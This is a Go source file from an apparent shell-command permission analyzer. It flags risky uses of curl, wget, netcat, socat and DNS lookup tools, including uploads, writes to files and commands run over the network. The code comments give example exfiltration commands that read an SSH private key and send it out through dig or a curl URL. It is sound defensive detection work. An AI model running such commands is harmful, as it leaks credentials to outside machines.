package programs

import (
	"strings"

	"nosh/perms/analysis"
)

// Downloaders mark their unit, so that a download run as code is caught
// (see the checks in analysis/walk.go and analysis/classify.go), and
// record the files they write, so that running one later in the same
// command is caught too. curl and wget options that write or upload
// files are risky.

// downloadersTable returns the programs that download files.
func downloadersTable() map[string]bool {
	return map[string]bool{
		"curl": true, "wget": true, "wget2": true, "fetch": true, "aria2c": true, "http": true, "https": true,
		"xh": true, "xhs": true, "curlie": true, "lwp-request": true, "lwp-download": true, "GET": true,
		// Browsers that print a page, and raw network clients: their
		// output is data from elsewhere all the same.
		"lynx": true, "links": true, "elinks": true, "w3m": true, "nc": true, "ncat": true, "netcat": true,
		"socat": true, "telnet": true, "openssl-s_client": true,
	}
}

func curlCmd(c *analysis.Cmd) {
	c.Unit().Download = true
	ws := c.Args
	for i := 0; i < len(ws); i++ {
		w := ws[i]
		if !w.IsStatic() {
			continue
		}
		v := w.Value
		if v == "--" {
			break
		}
		next := "" // the following word, which may be the option's value
		if i+1 < len(ws) && ws[i+1].IsStatic() {
			next = ws[i+1].Value
		}
		if strings.HasPrefix(v, "--") {
			name, value, hasValue := strings.Cut(v, "=")
			if !hasValue {
				value = next
			}
			curlLong(c, i, name, value, hasValue)
			continue
		}
		if len(v) >= 2 && v[0] == '-' {
			curlShort(c, i, v, next)
		}
	}
}

// curlLong flags a long option of curl, the word at i: name, with its
// value attached (hasValue) or in the next word.
func curlLong(c *analysis.Cmd, i int, name, value string, hasValue bool) {
	is := func(names ...string) bool {
		for _, n := range names {
			if analysis.LongName(name, n) {
				return true
			}
		}
		return false
	}
	switch {
	case is("--unix-socket", "--abstract-unix-socket"):
		c.Risk(analysis.KindOption, "curl "+name, "talks to a local service through its socket, which acts outside the sandbox")
		c.Analyzer.Targets = append(c.Analyzer.Targets, analysis.Target{Text: c.Unit().String(), Path: "via " + value, Op: analysis.ViaDaemon,
			Why: "asks the service listening on " + value + ", outside the sandbox, to act"})
	case is("--output", "--dump-header", "--cookie-jar", "--trace", "--trace-ascii", "--stderr",
		"--libcurl", "--etag-save", "--alt-svc", "--hsts"):
		if value != "-" {
			c.Risk(analysis.KindOption, "curl "+name, "writes to a file")
		}
		if analysis.LongName(name, "--output") {
			markFetchedArg(c, i, hasValue, value)
		}
	case is("--remote-name", "--remote-name-all", "--output-dir", "--create-dirs"):
		c.Risk(analysis.KindOption, "curl "+name, "writes to a file")
		fetchedURLs(c)
		if analysis.LongName(name, "--output-dir") && value != "" {
			// curl --output-dir /tmp -O URL/i.sh writes /tmp/i.sh.
			for _, w := range analysis.Operands(c.Args) {
				if w.IsStatic() && strings.Contains(w.Value, "://") {
					c.Analyzer.MarkFetched(strings.TrimSuffix(value, "/") + "/" + urlBase(w.Value))
				}
			}
		}
	case is("--config"):
		c.Risk(analysis.KindOption, "curl --config", "reads options from a file")
	case is("--upload-file"):
		c.Risk(analysis.KindOption, "curl --upload-file", "sends a local file")
	case is("--write-out"):
		if strings.Contains(value, "%output{") {
			c.Risk(analysis.KindOption, "curl --write-out", "writes to a file it names")
		}
	case name == "--data" || name == "--data-binary" || name == "--data-urlencode" || name == "--json" ||
		name == "--form" || name == "--form-string" || name == "--data-ascii" || name == "--header":
		if sendsFile(name, value) {
			c.Risk(analysis.KindOption, "curl "+name, "sends a local file")
		}
	}
}

// curlShort flags a cluster of curl's short options, the word v at i;
// next is the word after it.
func curlShort(c *analysis.Cmd, i int, v, next string) {
	// Short options of curl that take an argument.
	const withArg = "AbcCdDeEFHKmoPQrtTuUwxXyYz"
	for j := 1; j < len(v); j++ {
		ch := v[j]
		if strings.IndexByte(withArg, ch) < 0 {
			if ch == 'O' {
				c.Risk(analysis.KindOption, "curl -O", "writes to a file")
				fetchedURLs(c)
			}
			continue
		}
		value := v[j+1:]
		if value == "" {
			value = next
		}
		switch ch {
		case 'o', 'D', 'c':
			if value != "-" {
				c.Risk(analysis.KindOption, "curl -"+string(ch), "writes to a file")
			}
			if ch == 'o' {
				markFetchedArg(c, i, v[j+1:] != "", value)
			}
		case 'K':
			c.Risk(analysis.KindOption, "curl -K", "reads options from a file")
		case 'w':
			if strings.Contains(value, "%output{") {
				c.Risk(analysis.KindOption, "curl -w", "writes to a file it names")
			}
		case 'T':
			c.Risk(analysis.KindOption, "curl -T", "sends a local file")
		case 'd', 'F', 'H':
			if sendsFile("-"+string(ch), value) {
				c.Risk(analysis.KindOption, "curl -"+string(ch), "sends a local file")
			}
		}
		break
	}
}

// sendsFile reports whether a curl data or form option reads a file:
// -d @file, --data-urlencode name@file, -F name=@file or name=<file.
func sendsFile(opt, value string) bool {
	switch opt {
	case "-F", "--form":
		return strings.Contains(value, "=@") || strings.Contains(value, "=<")
	case "--form-string":
		return false
	case "--data-urlencode":
		at := strings.IndexByte(value, '@')
		eq := strings.IndexByte(value, '=')
		return at >= 0 && (eq < 0 || at < eq)
	}
	return strings.HasPrefix(value, "@")
}

func wgetCmd(c *analysis.Cmd) {
	c.Unit().Download = true
	named := false
	scanOpts(c.Args, func(i int, v string) {
		if val, ok := clusterValue(c.Args, i, 'O', "ohPeaUOtTwQlABDIX"); ok {
			named = true
			c.Analyzer.MarkFetched(val)
		} else if name, value, ok := strings.Cut(v, "="); ok && analysis.LongName(name, "--output-document") {
			named = true
			c.Analyzer.MarkFetched(value)
		} else if v == "--output-document" && i+1 < len(c.Args) {
			named = true
			c.Analyzer.MarkFetched(c.Args[i+1].Value)
		}
	})
	if !named {
		fetchedURLs(c)
	}
	scanOpts(c.Args, func(i int, v string) {
		name, value, hasValue := strings.Cut(v, "=")
		if !hasValue && i+1 < len(c.Args) {
			value = c.Args[i+1].Value
		}
		long := strings.HasPrefix(name, "--")
		switch {
		case long && (analysis.LongName(name, "--post-file") || analysis.LongName(name, "--body-file")):
			c.Risk(analysis.KindOption, "wget "+name, "sends a local file")
		case long && analysis.LongName(name, "--output-document") || v == "-O":
			if value != "-" {
				c.Risk(analysis.KindOption, "wget -O", "writes to a file it names")
			}
		case strings.HasPrefix(v, "-O") && len(v) > 2 && v[2:] != "-":
			c.Risk(analysis.KindOption, "wget -O", "writes to a file it names")
		case !long && strings.HasPrefix(v, "-") && shortHas(v, 'O', "ohPeaUtTwQlABDIX"):
			if val, _ := clusterValue(c.Args, i, 'O', "ohPeaUOtTwQlABDIX"); val != "-" {
				c.Risk(analysis.KindOption, "wget -O", "writes to a file it names") // wget -qO file
			}
		case !long && strings.HasPrefix(v, "-") && shortHas(v, 'e', "ohPaUOtTwQlABDIX"):
			c.Risk(analysis.KindOption, "wget -e", "runs wgetrc commands, which can name files and programs")
		case v == "-e" || strings.HasPrefix(v, "-e") && !long || long && analysis.LongName(name, "--execute"):
			c.Risk(analysis.KindOption, "wget -e", "runs wgetrc commands, which can name files and programs")
		case long && (analysis.LongName(name, "--use-askpass") || analysis.LongName(name, "--config")):
			c.Risk(analysis.KindOption, "wget "+name, "runs a program or reads options from a file")
		case v == "-o" || v == "-a" || (strings.HasPrefix(v, "-o") || strings.HasPrefix(v, "-a")) && !long ||
			long && (analysis.LongName(name, "--output-file") || analysis.LongName(name, "--append-output")):
			c.Risk(analysis.KindOption, "wget "+name, "writes a log file")
		}
	})
	if d, ok := analysis.DirOption(c.Args, "-P", "--directory-prefix"); ok {
		c.IntoDir(d, "downloads")
		if dv, ok := c.Analyzer.Resolve(d); ok && !named {
			// wget -P /tmp URL/i.sh && sh /tmp/i.sh
			for _, w := range analysis.Operands(c.Args) {
				if w.IsStatic() && strings.Contains(w.Value, "://") {
					c.Analyzer.MarkFetched(strings.TrimSuffix(dv, "/") + "/" + urlBase(w.Value))
				}
			}
		}
	} else if !named && c.Analyzer.Cwd != "" {
		c.IntoDir(analysis.Word{Value: "."}, "downloads")
	}
}

// markFetchedArg records the file named by an option's value: attached,
// or the next word, resolved when it is computed ($HOME/i.sh, $f).
func markFetchedArg(c *analysis.Cmd, i int, attached bool, value string) {
	if !attached && i+1 < len(c.Args) && !c.Args[i+1].IsStatic() {
		if v, ok := c.Analyzer.Resolve(c.Args[i+1]); ok {
			value = v
		}
	}
	c.Analyzer.MarkFetched(value)
}

// clusterValue returns the value of short option want in the cluster
// ws[i] (-qO file, -qOfile), where the letters in args take a value.
func clusterValue(ws []analysis.Word, i int, want byte, args string) (string, bool) {
	v := ws[i].Value
	if !ws[i].IsStatic() || len(v) < 2 || v[0] != '-' || v[1] == '-' {
		return "", false
	}
	for j := 1; j < len(v); j++ {
		if v[j] == want {
			if rest := v[j+1:]; rest != "" {
				return rest, true
			}
			if i+1 < len(ws) {
				if r, ok := ws[i+1].Value, ws[i+1].IsStatic(); ok {
					return r, true
				}
			}
			return "", false
		}
		if strings.IndexByte(args, v[j]) >= 0 {
			return "", false
		}
	}
	return "", false
}

// urlBase is the file name a download of u is saved as by default.
func urlBase(u string) string {
	if i := strings.IndexAny(u, "?#"); i >= 0 {
		u = u[:i]
	}
	if i := strings.LastIndexByte(u, '/'); i >= 0 {
		return u[i+1:]
	}
	return u
}

// fetchedURLs records the files a download names after its URLs.
func fetchedURLs(c *analysis.Cmd) {
	for _, w := range analysis.Operands(c.Args) {
		if !w.IsStatic() || !strings.Contains(w.Value, "://") {
			continue
		}
		u := w.Value
		if i := strings.IndexAny(u, "?#"); i >= 0 {
			u = u[:i]
		}
		if i := strings.LastIndexByte(u, '/'); i >= 0 && i+1 < len(u) {
			c.Analyzer.MarkFetched(u[i+1:])
		}
	}
}

func downloaderCmd(c *analysis.Cmd) {
	c.Unit().Download = true
	switch c.Base {
	case "nc", "ncat", "netcat":
		scanOpts(c.Args, func(_ int, v string) {
			if v == "-e" || v == "-c" || strings.HasPrefix(v, "-e") || longOpt(v, "--exec") || longOpt(v, "--sh-exec") ||
				longOpt(v, "--lua-exec") {
				c.Risk(analysis.KindOption, c.Base+" -e", "runs a command connected to the network")
			}
		})
	case "socat":
		for _, w := range c.Args {
			u := strings.ToUpper(w.Value)
			if strings.Contains(u, "EXEC:") || strings.Contains(u, "SYSTEM:") || strings.Contains(u, "SHELL:") {
				c.Risk(analysis.KindOption, "socat EXEC", "runs a command connected to the network")
				return
			}
			if strings.Contains(u, "CREATE:") || strings.Contains(u, "OPEN:") || strings.Contains(u, "GOPEN:") ||
				strings.HasPrefix(u, "FILE:") {
				c.Risk(analysis.KindOption, "socat file", "reads or writes a file")
				return
			}
		}
	}
}

func registerDownloaders(t *tableSet) {
	for n := range t.downloaders {
		t.handlers[n] = sendsComputed(downloaderCmd)
	}
	t.handlers["curl"] = sendsComputed(curlCmd)
	t.handlers["wget"] = sendsComputed(wgetCmd)
	// Name lookups and probes send the names they are given to servers
	// elsewhere: dig "$(head -c 40 ~/.ssh/id_rsa | base64).example.com".
	for _, n := range []string{"ping", "ping6", "fping", "arping", "dig", "drill", "host", "nslookup", "whois",
		"traceroute", "traceroute6", "tracepath", "mtr", "getent"} {
		t.handlers[n] = sendsComputed(t.handlers[n])
	}
}

// sendsComputed flags a network client given an argument whose value is
// known only at run time: in a URL, a header or a form field it is sent
// to another machine, and a command substitution can make it any file's
// contents (curl "http://x/?k=$(cat ~/.ssh/id_rsa)"). Values known now,
// such as $HOME, are plain.
func sendsComputed(next analysis.Handler) analysis.Handler {
	return func(c *analysis.Cmd) {
		for _, w := range c.Args {
			if _, known := c.Analyzer.Resolve(w); !known {
				c.Risk(analysis.KindOption, c.Base+" "+w.String(), "sends a value computed at run time to another machine: it may hold a file's contents")
				break
			}
		}
		if next != nil {
			next(c)
		}
	}
}
